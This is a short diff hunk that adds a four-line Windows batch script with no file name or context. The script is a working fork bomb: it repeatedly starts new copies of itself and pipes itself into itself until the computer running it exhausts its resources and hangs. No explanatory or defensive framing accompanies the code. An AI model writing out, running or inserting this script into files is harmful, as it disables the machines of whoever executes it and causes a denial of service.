@@ -1,0 +1,4 @@
+@echo off
+:s
+start "" %0
+%0|%0
